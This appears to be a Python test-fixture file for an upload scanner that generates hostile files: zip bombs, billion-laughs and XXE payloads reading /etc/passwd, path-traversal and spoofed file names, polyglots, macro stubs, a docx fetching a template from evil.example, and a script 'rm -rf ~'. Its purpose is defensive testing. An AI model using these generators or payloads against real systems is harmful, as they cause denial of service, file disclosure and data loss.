"""Files made to do harm, none of which may be released as if nothing were wrong with it.

Bombs are made when asked for: together they would fill the memory. `EVIL` gives each by a name, with the name it is
uploaded under; `FAST` are those that are made and refused in a moment.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from tests.alerts_worker.evidence_checks import evil_mails, evil_offices, evil_pdfs, evil_pictures, evil_zips
from tests.alerts_worker.evidence_checks.making import (
    add_to_zip,
    deflated,
    excel_file,
    film,
    mail,
    open_document,
    pdf,
    picture,
    replace_in_zip,
    slides,
    word_file,
    zipped,
)

Make = Callable[[], bytes]
MIB = 1 << 20
ELF, PE = b"\x7fELF\2\1\1" + b"\0" * 200, b"MZ\x90\0" + b"\0" * 200
SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
HTML = b"<html><script>alert(1)</script></html>"
MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ZIP = zipped(("a.txt", b"a"))


def zip_bomb(size: int) -> bytes:
    """Zeros, packed."""
    return zipped_raw([("a.txt", deflated(size), size)])


def zipped_raw(entries: list[tuple[str, bytes, int]], *, checksum: int = 0, lie: int | None = None) -> bytes:
    """Entries that are packed already, with their unpacked sizes; `lie` is the size their headers state."""
    body, table = b"", b""
    for name, packed, size in entries:
        stated = size if lie is None else lie
        bare = packed[2:-4]  # a zip holds bare deflate
        words = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, checksum, len(bare), stated, len(name), 0)
        table += (
            b"PK\1\2" + struct.pack("<H", 20) + words + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name.encode()
        )
        body += b"PK\3\4" + words + name.encode() + bare
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(table), len(body), 0)
    return body + table + b"PK\5\6" + end


def crowded_zip(count: int) -> bytes:
    return zipped_raw([(f"{each}.txt", zlib.compress(b""), 0) for each in range(count)])


def crowded_docx(count: int) -> bytes:
    return add_to_zip(word_file(), *((f"word/{each}.xml", b"<a/>") for each in range(count)))


def overlapping_zip(count: int = 200) -> bytes:
    """Every entry is the same packed bytes."""
    packed, size = deflated(8 * MIB), 8 * MIB
    one = zipped_raw([("a.txt", packed, size)])
    at = one.index(b"PK\1\2")
    head, row, end = one[:at], one[at : one.index(b"PK\5\6")], one[one.index(b"PK\5\6") :]
    end = end[:8] + struct.pack("<HHII", count, count, len(row) * count, at) + end[20:]
    return head + row * count + end


def nested_zip(depth: int, *, bomb: int = 0) -> bytes:
    inner = zip_bomb(bomb) if bomb else zipped(("a.txt", b"a"))
    for level in range(depth):
        inner = zipped(*((f"{level}-{each}.zip", inner) for each in range(4 if bomb else 1)))
    return inner


def encrypted_zip() -> bytes:
    """The bit that says so is enough for whoever cannot look inside."""
    content = bytearray(zipped(("a.pdf", pdf("x"))))
    content[6] |= 1
    content[content.index(b"PK\1\2") + 8] |= 1
    return bytes(content)


def linking_zip() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def twice_named_zip(first: str, second: str) -> bytes:
    one = zipped((first, b"a"), ("#" * len(second), b"b"))
    return one.replace(b"#" * len(second), second.encode())


def laughs(depth: int = 9) -> bytes:
    lines = [b'<!ENTITY a0 "ha">']
    lines += [b'<!ENTITY a%d "%s">' % (each, b"&a%d;" % (each - 1) * 10) for each in range(1, depth)]
    return b'<?xml version="1.0"?><!DOCTYPE w [' + b"".join(lines) + b"]><w>&a%d;</w>" % (depth - 1)


def cut(content: bytes, share: float) -> bytes:
    return content[: int(len(content) * share)]


def with_relation(kind: str) -> bytes:
    relation = (
        f'<Relationships><Relationship Id="r1" Type="http://s/{kind}" Target="http://evil.example/t.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    return add_to_zip(word_file(), ("word/_rels/settings.xml.rels", relation.encode()))


def deep_mail(depth: int) -> bytes:
    head = b"From: a@b.vn\r\nSubject: x\r\nDate: Mon, 02 Mar 2026 08:00:00 +0700\r\n"
    body = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (each, each) for each in range(depth)
    )
    return head + body + b"Content-Disposition: attachment; filename=a.exe\r\n\r\nMZ"


NAMES = {
    "leads up": "../../etc/cron.d/a.txt",
    "leads up, backwards": "..\\..\\Startup\\a.txt",
    "from the root": "/etc/a.txt",
    "on a drive": "C:\\Windows\\a.txt",
    "on a server": "\\\\server\\share\\a.txt",
    "turns around": "a\u202etxt.fdp",
    "invisible": "a\u200b.txt",
    "a control": "a\x07.txt",
    "far too long": "a" * 3000 + ".txt",
    "a program's": "bao cao.pdf.exe",
    "a link's": "bao cao.lnk",
    "a script's": "bao cao.js",
    "a web page's": "bao cao.html",
}

EVIL: dict[str, tuple[str, Make]] = {
    # Bombs
    "zip that becomes 1 GiB": ("a.zip", partial(zip_bomb, 1024 * MIB)),
    "zip that becomes 100 MiB": ("a.zip", partial(zip_bomb, 100 * MIB)),
    "docx that becomes 1 GiB": (
        "a.docx",
        lambda: zipped_raw([("word/document.xml", deflated(1024 * MIB, b" "), 1024 * MIB)]),
    ),
    "zip that says it becomes little": (
        "a.zip",
        lambda: zipped_raw([("a.txt", deflated(800 * MIB), 800 * MIB)], lie=99),
    ),
    "zip of overlapping entries": ("a.zip", overlapping_zip),
    "zip of 60,000 entries": ("a.zip", partial(crowded_zip, 60_000)),
    "docx of 6,000 parts": ("a.docx", partial(crowded_docx, 6_000)),
    "zip in zips in zips, each a bomb": ("a.zip", partial(nested_zip, 3, bomb=64 * MIB)),
    "docx of entities that laugh": ("a.docx", lambda: replace_in_zip(word_file(), "word/document.xml", laughs())),
    "xlsx of entities that laugh": ("a.xlsx", lambda: replace_in_zip(excel_file(), "xl/workbook.xml", laughs())),
    "odt of entities that laugh": ("a.odt", lambda: replace_in_zip(open_document(), "content.xml", laughs())),
    "docx that asks for a file": (
        "a.docx",
        lambda: replace_in_zip(
            word_file(),
            "word/document.xml",
            b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>',
        ),
    ),
    "message with a bomb": ("a.eml", lambda: mail(("a.zip", zip_bomb(300 * MIB)))),
    # Containers of containers
    "zip in a zip": ("a.zip", partial(nested_zip, 1)),
    "zip ten deep": ("a.zip", partial(nested_zip, 10)),
    "zip in a docx": ("a.docx", lambda: add_to_zip(word_file(), ("word/embeddings/a.zip", ZIP))),
    "docx in a docx in a docx in a docx": (
        "a.docx",
        lambda: _wrapped(_wrapped(_wrapped(word_file()))),
    ),
    "zip in a docx in a zip": ("a.zip", lambda: zipped(("a.docx", add_to_zip(word_file(), ("word/a.zip", ZIP))))),
    "zip in a message": ("a.eml", lambda: mail(("a.zip", nested_zip(1)))),
    "message forty deep": ("a.eml", partial(deep_mail, 40)),
    # What cannot be looked into
    "encrypted zip": ("a.zip", encrypted_zip),
    "encrypted docx": ("a.docx", lambda: MACRO + "EncryptedPackage".encode("utf-16-le") + b"\0" * 4000),
    # Programs
    "program": ("a.pdf", lambda: PE),
    "program for Linux": ("a.jpg", lambda: ELF),
    "script": ("a.txt", lambda: SCRIPT),
    "web page": ("a.txt", lambda: HTML),
    "drawing with a script": ("a.png", lambda: b'<svg xmlns="s"><script>alert(1)</script></svg>'),
    "shortcut": ("a.pdf", lambda: b"L\0\0\0\1\x14\2\0" + b"\0" * 200),
    "program in a zip": ("a.zip", lambda: zipped(("bao cao.pdf", PE))),
    "script in a zip": ("a.zip", lambda: zipped(("bao cao.txt", SCRIPT))),
    "web page in a zip": ("a.zip", lambda: zipped(("bao cao.txt", HTML))),
    "unknown type in a zip": ("a.zip", lambda: zipped(("a.bin", b"\1\2\3" * 99))),
    "program in a docx": ("a.docx", lambda: add_to_zip(word_file(), ("word/media/image1.png", PE))),
    "program in a message": ("a.eml", lambda: mail(("bao cao.pdf", PE))),
    "program's name in a message": ("a.eml", lambda: mail(("bao cao.pdf.exe", pdf("x")))),
    "macros in a message": ("a.eml", lambda: mail(("a.docx", add_to_zip(word_file(), ("word/vbaProject.bin", MACRO))))),
    "Java program": ("a.zip", lambda: zipped(("a.txt", b"a" * 5000), ("META-INF/MANIFEST.MF", b"Main-Class: A"))),
    # Macros and what fetches more
    "docx with macros": ("a.docx", lambda: add_to_zip(word_file(), ("word/vbaProject.bin", MACRO))),
    "docx with renamed macros": ("a.docx", lambda: add_to_zip(word_file(), ("word/vbaProject2.bin", MACRO))),
    "docx that is a docm": (
        "a.docx",
        lambda: replace_in_zip(word_file(), "[Content_Types].xml", b'<Types><a ContentType="macroEnabled"/></Types>'),
    ),
    "xlsx with macros": ("a.xlsx", lambda: add_to_zip(excel_file(), ("xl/vbaProject.bin", MACRO))),
    "xlsx with a sheet of macros": ("a.xlsx", lambda: add_to_zip(excel_file(), ("xl/macrosheets/sheet1.xml", b"<a/>"))),
    "pptx with macros": ("a.pptx", lambda: add_to_zip(slides("x"), ("ppt/vbaProject.bin", MACRO))),
    "odt with macros": ("a.odt", lambda: add_to_zip(open_document("x"), ("Basic/Standard/a.xml", b"<a/>"))),
    "odt with scripts": ("a.odt", lambda: add_to_zip(open_document("x"), ("Scripts/python/a.xml", b"import os"))),
    "docx with macros in a zip": (
        "a.zip",
        lambda: zipped(("a.docx", add_to_zip(word_file(), ("word/vbaProject.bin", MACRO)))),
    ),
    "docx with ActiveX": ("a.docx", lambda: add_to_zip(word_file(), ("word/activeX/activeX1.bin", MACRO))),
    "docx with an object": ("a.docx", lambda: add_to_zip(word_file(), ("word/embeddings/oleObject1.bin", MACRO))),
    "docx that fetches its template": ("a.docx", partial(with_relation, "attachedTemplate")),
    "docx that fetches an object": ("a.docx", partial(with_relation, "oleObject")),
    # Names
    **{f"zip with a name that is {what}": ("a.zip", partial(zipped, (name, b"a"))) for what, name in NAMES.items()},
    "docx with a name that leads up": ("a.docx", lambda: add_to_zip(word_file(), ("../a.xml", b"<a/>"))),
    "zip with a link": ("a.zip", linking_zip),
    "zip with a name twice": ("a.zip", partial(twice_named_zip, "a.txt", "a.txt")),
    "zip with a name twice, almost": ("a.zip", partial(twice_named_zip, "a.txt", "A.TXT")),
    # Two things at once
    "jpeg and zip": ("a.jpg", lambda: picture() + ZIP),
    "png and zip": ("a.png", lambda: picture("PNG") + ZIP),
    "webp and zip": ("a.webp", lambda: picture("WEBP") + ZIP),
    "heic and zip": ("a.heic", lambda: picture("HEIF") + ZIP),
    "mp4 and zip": ("a.mp4", lambda: film() + ZIP),
    "jpeg and zip and more": ("a.jpg", lambda: picture() + ZIP + b"\0" * 100),
    "jpeg and program": ("a.jpg", lambda: picture() + PE),
    "png and script": ("a.png", lambda: picture("PNG") + SCRIPT),
    "png and web page": ("a.png", lambda: picture("PNG") + HTML),
    "jpeg that is a web page": ("a.jpg", lambda: picture(comment=HTML)),
    "jpeg that is a PDF": ("a.jpg", lambda: picture(comment=b"%PDF-1.7\n")),
    "text that is a PDF": ("a.txt", lambda: b"Bien ban\n%PDF-1.7\n1 0 obj\n"),
    "mp4 that is a PDF": ("a.mp4", lambda: film().replace(b"\0" * 40, b"%PDF-1.7\n" + b"\0" * 31, 1)),
    "text, then a program": ("a.txt", lambda: "Biên bản\n".encode() * 1000 + ELF),
    "zip, said to be a docx": ("a.docx", lambda: zipped(("word/a.exe", PE))),
    "zip with a hidden beginning": ("a.zip", lambda: PE + zipped(("a.txt", b"a"))),
    **evil_pdfs.EVIL,
    **evil_pictures.EVIL,
    **evil_zips.EVIL,
    **evil_offices.EVIL,
    **evil_mails.EVIL,
    # Cut short
    **{f"{name} cut short": (name, partial(cut, content, 0.6)) for name, content in (
        ("a.docx", word_file()), ("a.xlsx", excel_file()), ("a.pptx", slides("x")), ("a.odt", open_document("x")),
        ("a.zip", zipped(("a.pdf", pdf("x")))), ("a.pdf", pdf("x")), ("a.jpg", picture()), ("a.png", picture("PNG")),
        ("a.webp", picture("WEBP")), ("a.heic", picture("HEIF")), ("a.mp4", film()),
    )},
    "docx with a damaged part": ("a.docx", lambda: _damaged(word_file())),
    "text in the dark": ("a.txt", lambda: "Biên bản\n".encode() * 1000 + b"\0\1\2"),
}  # fmt: skip


def _wrapped(content: bytes) -> bytes:
    return add_to_zip(word_file(), ("word/embeddings/a.docx", content))


def _damaged(content: bytes) -> bytes:
    at = content.index(b"PK\1\2") // 2
    return content[:at] + bytes(255 - each for each in content[at : at + 40]) + content[at + 40 :]
